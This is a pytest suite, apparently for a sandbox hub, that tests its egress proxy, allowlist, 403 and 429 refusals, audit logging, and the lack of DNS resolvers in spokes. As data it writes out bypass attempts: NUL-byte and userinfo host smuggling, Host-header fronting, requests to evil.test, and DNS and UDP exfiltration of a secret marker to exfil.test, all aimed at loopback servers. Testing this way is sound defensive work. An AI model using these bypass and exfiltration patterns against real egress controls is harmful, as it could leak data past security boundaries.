"""Network egress through the hub's proxy: the allowlist, the refusals and their audit records,
and the absence of any resolver inside a spoke.

Each test runs its own HTTP servers on the host's 127.0.0.1 with port 0 and maps the name
api.test to 127.0.0.1 with [egress.hosts] in hub.toml, so no traffic leaves the host's loopback.
The servers record every connection they accept, so a refusal can be shown to deliver nothing.
"""

from __future__ import annotations

import errno
import http.server
import json
import socket
import threading
import uuid

import pytest

import manifests

ALLOWED_BODY = "hello from the allowed server"


class RecordingServer(http.server.ThreadingHTTPServer):
    """An HTTP server on 127.0.0.1 that records every connection, request line and Host header it
    receives."""

    daemon_threads = True

    def __init__(self, body: str):
        self.body = body
        self.connections: list[tuple[str, int]] = []
        self.requests: list[str] = []
        self.hosts: list[list[str]] = []
        self.lock = threading.Lock()
        super().__init__(("127.0.0.1", 0), RecordingHandler)
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()

    @property
    def port(self) -> int:
        return self.server_address[1]

    def get_request(self):
        connection, address = super().get_request()
        with self.lock:
            self.connections.append(address)
        return connection, address

    def log(self) -> str:
        with self.lock:
            return f"connections={self.connections} requests={self.requests}"

    def close(self):
        self.shutdown()
        self.server_close()


class RecordingHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with self.server.lock:
            self.server.requests.append(self.requestline)
            self.server.hosts.append(self.headers.get_all("Host") or [])
        body = self.server.body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class UdpListener:
    """A UDP socket that records every datagram, bound to an address the test names."""

    def __init__(self, address: tuple[str, int]):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            self.socket.bind(address)
        except OSError as error:
            self.socket.close()
            if error.errno == errno.EADDRINUSE:
                pytest.fail(
                    f"UDP {address[0]}:{address[1]} is already taken on this host, so the test cannot show that no "
                    "DNS query reaches it; stop the service that holds it and run the test again",
                    pytrace=False,
                )
            raise
        self.socket.settimeout(0.2)
        self.received: list[bytes] = []

    def drain(self) -> list[bytes]:
        while True:
            try:
                self.received.append(self.socket.recv(65536))
            except (socket.timeout, BlockingIOError):
                return self.received

    def close(self):
        self.socket.close()


@pytest.fixture
def servers():
    allowed = RecordingServer(ALLOWED_BODY)
    other = RecordingServer("the other port was reached")
    yield allowed, other
    allowed.close()
    other.close()


def egress_hub(hub, manifest_texts: dict[str, str]):
    """Start a hub whose hub.toml pins api.test to 127.0.0.1."""
    bulkhead = hub(manifest_texts, start=False)
    bulkhead.config_path.write_text(bulkhead.config_text() + '\n[egress.hosts]\n"api.test" = "127.0.0.1"\n')
    bulkhead.start()
    return bulkhead


def call(bulkhead, app: str, tool: str, **arguments) -> dict:
    return json.loads(bulkhead.call_text(app, tool, arguments))


def audit_records(bulkhead, kind: str) -> list[dict]:
    lines = (bulkhead.state_dir / "audit.log").read_text().splitlines()
    return [record["fields"] for record in map(json.loads, lines) if record["kind"] == kind]


def test_allowed_host_with_curl_and_urllib(hub, servers):
    allowed, _ = servers
    bulkhead = egress_hub(hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"])})
    url = f"http://api.test:{allowed.port}/hello"

    by_curl = call(bulkhead, "net", "fetch_curl", url=url)
    by_urllib = call(bulkhead, "net", "fetch_urllib", url=url)

    assert by_curl["exit"] == 0, by_curl
    assert by_curl["status"] == 200, by_curl
    assert by_curl["body"] == ALLOWED_BODY
    assert by_urllib["status"] == 200, by_urllib
    assert by_urllib["body"] == ALLOWED_BODY
    assert allowed.requests == ["GET /hello HTTP/1.1", "GET /hello HTTP/1.1"], allowed.log()


def test_forward_sets_checked_host(hub, servers):
    """The proxy replaces the app's Host header with the host it checked, so a server that hosts
    many names on one address cannot be asked for a name the allowlist never saw."""
    allowed, _ = servers
    bulkhead = egress_hub(hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"])})
    head = f"GET http://api.test:{allowed.port}/fronted HTTP/1.1\r\nHost: other.test\r\nHost: third.test\r\n\r\n"

    answer = call(bulkhead, "net", "proxy_request", head=head)

    assert answer["status"] == 200, answer
    assert allowed.requests == ["GET /fronted HTTP/1.1"], allowed.log()
    assert allowed.hosts == [[f"api.test:{allowed.port}"]]


def test_connect_tunnel_reaches_server(hub, servers):
    allowed, _ = servers
    bulkhead = egress_hub(hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"])})
    inner = "GET /tunnel HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"

    answer = call(bulkhead, "net", "proxy_request", head=f"CONNECT api.test:{allowed.port} HTTP/1.1\r\n\r\n{inner}")

    assert answer["status"] == 200, answer
    assert ALLOWED_BODY in answer["body"], answer
    assert allowed.requests == ["GET /tunnel HTTP/1.1"], allowed.log()


def test_proxy_environment_set_for_egress(hub, servers):
    allowed, _ = servers
    bulkhead = egress_hub(
        hub,
        {
            "net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"]),
            "quiet": manifests.netprobe("quiet", "none"),
        },
    )

    egress_env = call(bulkhead, "net", "proxy_env")
    none_env = call(bulkhead, "quiet", "proxy_env")

    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        assert egress_env[name] == "http://127.0.0.1:3128", egress_env
    assert egress_env["NO_PROXY"] == "localhost,127.0.0.1,::1"
    assert all(value is None for value in none_env.values()), none_env


def test_refusals_are_403_audited_and_deliver_nothing(hub, servers):
    allowed, other = servers
    bulkhead = egress_hub(hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"])})
    cases = {
        "other port": f"CONNECT api.test:{other.port} HTTP/1.1\r\n\r\n",
        "name not on the list": f"GET http://evil.test:{allowed.port}/x HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "NUL in the host": f"CONNECT api.test\0.evil.test:{allowed.port} HTTP/1.1\r\n\r\n",
        "literal 127.0.0.1": f"GET http://127.0.0.1:{allowed.port}/x HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        "userinfo": f"CONNECT user@api.test:{allowed.port} HTTP/1.1\r\n\r\n",
    }
    expected_reasons = {
        "other port": f"api.test:{other.port} is not on the app's allowlist",
        "name not on the list": f"evil.test:{allowed.port} is not on the app's allowlist",
        "NUL in the host": "contains a NUL byte",
        "literal 127.0.0.1": f"127.0.0.1:{allowed.port} is not on the app's allowlist",
        "userinfo": "contains userinfo",
    }

    answers = {case: call(bulkhead, "net", "proxy_request", head=head) for case, head in cases.items()}

    for case, answer in answers.items():
        assert answer["status"] == 403, f"{case}: {answer}"
        assert expected_reasons[case] in answer["body"], f"{case}: {answer}"
    refused = audit_records(bulkhead, "egress_refused")
    for case in cases:
        assert any(expected_reasons[case] in record["reason"] for record in refused), f"{case} not audited: {refused}"
    assert all(record["status"] == 403 and record["app"] == "net" for record in refused), refused
    assert allowed.connections == [], allowed.log()
    assert other.connections == [], other.log()
    assert audit_records(bulkhead, "egress_open") == []


def test_curl_refusal_reports_403(hub, servers):
    allowed, other = servers
    bulkhead = egress_hub(hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"])})

    by_curl = call(bulkhead, "net", "fetch_curl", url=f"http://api.test:{other.port}/")
    by_urllib = call(bulkhead, "net", "fetch_urllib", url=f"http://api.test:{other.port}/")

    assert by_curl["status"] == 403, by_curl
    assert "is not on the app's allowlist" in by_curl["body"], by_curl
    assert by_urllib["status"] == 403, by_urllib
    assert other.connections == [], other.log()


def test_raw_connect_bypassing_proxy_fails(hub, servers):
    allowed, _ = servers
    bulkhead = egress_hub(hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"])})

    attempt = call(bulkhead, "net", "raw_connect", host="127.0.0.1", port=allowed.port, payload="GET / HTTP/1.0\r\n\r\n")

    assert attempt["connected"] is False, attempt
    assert "ConnectionRefused" in attempt["error"], attempt
    assert allowed.connections == [], allowed.log()


def test_allowed_connection_audited_and_counted(hub, servers):
    allowed, _ = servers
    bulkhead = egress_hub(hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"])})

    fetched = call(bulkhead, "net", "fetch_curl", url=f"http://api.test:{allowed.port}/count")
    refused = call(bulkhead, "net", "fetch_curl", url=f"http://api.test:{allowed.port + 1}/")

    assert fetched["status"] == 200, fetched
    assert refused["status"] == 403, refused
    opened = audit_records(bulkhead, "egress_open")
    assert opened == [
        {"app": "net", "method": "GET", "host": "api.test", "port": allowed.port, "address": f"127.0.0.1:{allowed.port}"}
    ]
    closed = audit_records(bulkhead, "egress_close")
    assert len(closed) == 1, closed
    assert closed[0]["host"] == "api.test"
    assert closed[0]["address"] == f"127.0.0.1:{allowed.port}"
    assert closed[0]["bytes_sent"] > 0
    assert closed[0]["bytes_received"] > len(ALLOWED_BODY)
    spoke = bulkhead.spoke("net")
    assert spoke["egress_connections"] == 1, spoke
    assert spoke["egress_refused"] == 1, spoke
    assert spoke["egress_bytes_received"] == closed[0]["bytes_received"], spoke
    assert spoke["egress_bytes_sent"] == closed[0]["bytes_sent"], spoke
    code, table, err = bulkhead.cli("spokes")
    assert code == 0, err
    assert "NET_RECEIVED" in table.splitlines()[0]


def test_connection_limit_answers_429(hub, servers):
    allowed, _ = servers
    bulkhead = egress_hub(
        hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"], max_connections=2)}
    )
    # The tunnelled request sets Connection: close, so that the tool's read of the response ends.
    inner = "GET /limit HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"
    head = f"CONNECT api.test:{allowed.port} HTTP/1.1\r\n\r\n{inner}"

    over = call(bulkhead, "net", "proxy_request_while_holding", head=head, hold=2)
    under = call(bulkhead, "net", "proxy_request_while_holding", head=head, hold=1)

    assert over["status"] == 429, over
    assert "max_connections" in over["body"], over
    assert under["status"] == 200, under
    assert allowed.requests == ["GET /limit HTTP/1.1"], allowed.log()
    refused = audit_records(bulkhead, "egress_refused")
    assert [record["status"] for record in refused] == [429], refused


def test_no_resolver_in_spoke(hub):
    marker = f"m{uuid.uuid4().hex[:12]}"
    dns = UdpListener(("127.0.0.1", 53))
    try:
        bulkhead = hub({"quiet": manifests.netprobe("quiet", "none")})
        resolv = call(bulkhead, "quiet", "read_text", path="/etc/resolv.conf")
        nsswitch = call(bulkhead, "quiet", "read_text", path="/etc/nsswitch.conf")
        named = [line.split()[1] for line in resolv["text"].splitlines() if line.startswith("nameserver")]
        extra = [UdpListener((address, 53)) for address in named if address.startswith("127.") and address != "127.0.0.1"]

        lookup = call(bulkhead, "quiet", "resolve", name=f"{marker}.exfil.test")
        localhost = call(bulkhead, "quiet", "resolve", name="localhost")
        direct = call(bulkhead, "quiet", "udp_send", host="127.0.0.1", port=53, payload=f"{marker}.exfil.test")

        assert named == [], f"the spoke's resolv.conf names a resolver: {resolv}"
        assert "hosts: files\n" in nsswitch["text"], nsswitch
        assert lookup["addresses"] == [], lookup
        assert lookup["seconds"] < 1.0, lookup
        assert "127.0.0.1" in localhost["addresses"], localhost
        assert direct["sent"] is True, direct
        for listener in [dns, *extra]:
            assert listener.drain() == [], f"a datagram reached the host: {listener.received}"
    finally:
        dns.close()


def test_egress_app_resolves_nothing_itself(hub, servers):
    allowed, _ = servers
    dns = UdpListener(("127.0.0.1", 53))
    try:
        bulkhead = egress_hub(hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"])})

        lookup = call(bulkhead, "net", "resolve", name="api.test")

        assert lookup["addresses"] == [], lookup
        assert lookup["seconds"] < 1.0, lookup
        assert dns.drain() == []
    finally:
        dns.close()


def test_marker_never_delivered(hub, servers):
    allowed, other = servers
    marker = f"secret{uuid.uuid4().hex[:12]}"
    dns = UdpListener(("127.0.0.1", 53))
    try:
        bulkhead = egress_hub(hub, {"net": manifests.netprobe("net", "egress", [f"api.test:{allowed.port}"])})

        attempts = {
            "curl to a name off the list": call(bulkhead, "net", "fetch_curl", url=f"http://{marker}.exfil.test:{allowed.port}/"),
            "urllib to another port": call(bulkhead, "net", "fetch_urllib", url=f"http://api.test:{other.port}/{marker}"),
            "CONNECT to a literal IP": call(
                bulkhead, "net", "proxy_request", head=f"CONNECT 127.0.0.1:{allowed.port} HTTP/1.1\r\n\r\n{marker}"
            ),
            "lookup": call(bulkhead, "net", "resolve", name=f"{marker}.exfil.test"),
            "raw connect": call(bulkhead, "net", "raw_connect", host="127.0.0.1", port=other.port, payload=marker),
            "UDP to port 53": call(bulkhead, "net", "udp_send", host="127.0.0.1", port=53, payload=marker),
        }

        assert attempts["curl to a name off the list"]["status"] == 403, attempts
        assert attempts["urllib to another port"]["status"] == 403, attempts
        assert attempts["CONNECT to a literal IP"]["status"] == 403, attempts
        assert attempts["lookup"]["addresses"] == [], attempts
        assert attempts["raw connect"]["connected"] is False, attempts
        assert allowed.connections == [], allowed.log()
        assert other.connections == [], other.log()
        assert all(marker.encode() not in datagram for datagram in dns.drain()), dns.received
        assert dns.received == []
    finally:
        dns.close()
